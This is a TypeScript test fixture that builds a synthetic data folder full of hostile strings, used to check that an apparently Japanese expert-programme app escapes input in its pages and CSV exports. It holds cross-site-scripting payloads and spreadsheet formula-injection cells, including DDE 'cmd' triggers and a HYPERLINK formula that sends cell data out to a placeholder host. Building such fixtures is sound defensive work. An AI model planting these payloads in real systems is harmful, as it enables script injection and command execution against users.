/**
 * A data folder whose every string an analyst could control is hostile: markup in free text,
 * names, organisations, e-mails and comments, and in the labels of a custom codebook.json (options,
 * questions, skill domains, the year), and formula triggers for the CSV exports. Built from the
 * bad-input corpus's valid set; nothing in it is a real person.
 */
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import attendeesJson from '../../packages/programme/src/codebook/fy2024/attendees.json' with { type: 'json' };
import consultationsJson from '../../packages/programme/src/codebook/fy2024/consultations.json' with { type: 'json' };
import expertsJson from '../../packages/programme/src/codebook/fy2024/experts.json' with { type: 'json' };
import guidanceJson from '../../packages/programme/src/codebook/fy2024/guidance.json' with { type: 'json' };
import { FILES, save, validRows } from '../bad-input/valid-set.js';

/** Markup meant to run or to break out of its context, each with a distinct tag to find it by. */
export const MARKUP = {
  name: `見本 太郎<script>alert('name')</script>`,
  organization: `"><img src=x onerror=alert('org')>`,
  organization2: `</style><script>alert('org2')</script>`,
  achievements: `</script><script>alert('achievements')</script>`,
  selfPr: `<!--<script>alert('pr')</script>-->`,
  email: `taro@example.jp"><svg onload=alert('email')>`,
  comment: `<script>alert('comment')</script>`,
  notice: `</p><script>alert('notice')</script><p>`,
  year: `令和6年度</title><script>alert('year')</script>`,
  questionLabel: `支援を得意とする業種"><img src=x onerror=alert('question')>`,
  optionLabel: `自動車産業<script>alert('option')</script>`,
  styleLabel: `独立</style><style>body{display:none}</style>`,
  domainLabel: `方針策定</script><script>alert('domain')</script>`,
  chamberLabel: `大阪商工会議所<svg onload=alert('chamber')>`,
  regionLabel: `大阪<!--`,
  themeLabel: `規程の整備</text><script>alert('svg')</script>`,
  instrumentLabel: `スキル調査<iframe src=javascript:alert('instrument')>`,
} as const;

/** Cells a spreadsheet would run as formulas, each a distinct trigger. */
export const FORMULAS = {
  name2: `=HYPERLINK("http://example.invalid/?"&A1,"見本 花子")`,
  organization3: `+81-3-0000-0000 架空ネットワーク`,
  achievements2: `-2+3+cmd|' /C calc'!A0`,
  email2: `@SUM(1+1)*cmd|' /C calc'!A0`,
  tabLabel: `\t=1+1 オンラインコンサルティング`,
  crLabel: `\r=1+1 半年～1年`,
  qualificationLabel: `=1+1 中小企業診断士`,
  fee: `-20,000円未満`,
} as const;

type Json = Record<string, unknown>;
type Col = { id: string; label: string; options?: { code: string; label: string }[] };
const clone = <T>(v: T): T => JSON.parse(JSON.stringify(v)) as T;
const column = (cb: Json, id: string) => (cb['columns'] as Col[]).find((c) => c.id === id)!;
const option = (cb: Json, id: string, code: string) => column(cb, id).options!.find((o) => o.code === code)!;

/** The custom codebook: the FY2024 one with hostile labels. */
function codebook(): Json {
  const experts = clone(expertsJson) as Json;
  experts['label'] = MARKUP.instrumentLabel;
  column(experts, 'industries').label = MARKUP.questionLabel;
  option(experts, 'industries', 'automotive').label = MARKUP.optionLabel;
  option(experts, 'affiliation', 'independent').label = MARKUP.styleLabel;
  option(experts, 'qualifications', 'sme_consultant').label = FORMULAS.qualificationLabel;
  option(experts, 'fee_band', 'lt20k').label = FORMULAS.fee;
  // Leading tabs and line breaks of cells are trimmed by the reader; labels keep them.
  option(experts, 'support_forms', 'online').label = FORMULAS.tabLabel;
  option(experts, 'support_periods', '6to12m').label = FORMULAS.crLabel;
  ((experts['rules'] as Json)['skills'] as { domains: { label: string }[] }).domains[0]!.label = MARKUP.domainLabel;
  const attendees = clone(attendeesJson) as Json;
  option(attendees, 'chamber', 'osaka').label = MARKUP.chamberLabel;
  const guidance = clone(guidanceJson) as Json;
  option(guidance, 'region', 'osaka').label = MARKUP.regionLabel;
  option(guidance, 'theme', 'rules').label = MARKUP.themeLabel;
  return { id: 'hostile', label: MARKUP.year, instruments: [experts, attendees, clone(consultationsJson), guidance] };
}

/** Write the hostile folder at `dir`. Cells of relabelled options are given as codes. */
export function writeHostileData(dir: string): void {
  mkdirSync(dir, { recursive: true });
  const rows = validRows();
  const e = rows['experts.csv'];
  const ec = (id: string) => e[0]!.indexOf(id);
  Object.assign(e[1]!, {
    [ec('name')]: MARKUP.name,
    [ec('organization')]: MARKUP.organization,
    [ec('achievements')]: MARKUP.achievements,
    [ec('self_pr')]: MARKUP.selfPr,
    [ec('email')]: MARKUP.email,
    [ec('affiliation')]: 'independent',
    [ec('industries')]: 'automotive;other_manufacturing',
    [ec('qualifications')]: 'itc;sme_consultant',
    [ec('support_forms')]: 'visit;online',
  });
  Object.assign(e[2]!, {
    [ec('name')]: FORMULAS.name2,
    [ec('organization')]: FORMULAS.organization3,
    [ec('achievements')]: FORMULAS.achievements2,
    [ec('email')]: FORMULAS.email2,
    [ec('fee_band')]: 'lt20k',
    [ec('support_forms')]: 'online',
    [ec('support_periods')]: '6to12m',
  });
  Object.assign(e[3]!, { [ec('organization')]: MARKUP.organization2 });
  Object.assign(e[4]!, { [ec('affiliation')]: 'independent' });
  const a = rows['attendees.csv'];
  a[1]![2] = 'osaka';
  a[2]![2] = 'osaka';
  a[1]![13] = MARKUP.comment;
  const g = rows['guidance.csv'];
  g[1]![2] = 'osaka';
  g[2]![2] = 'osaka';
  g[1]![3] = 'rules';
  for (const f of FILES) writeFileSync(join(dir, f), save(f, rows[f]));
  writeFileSync(join(dir, 'codebook.json'), JSON.stringify(codebook(), null, 2));
  writeFileSync(join(dir, 'dataset.json'), JSON.stringify({ synthetic: true, notice: MARKUP.notice }));
}
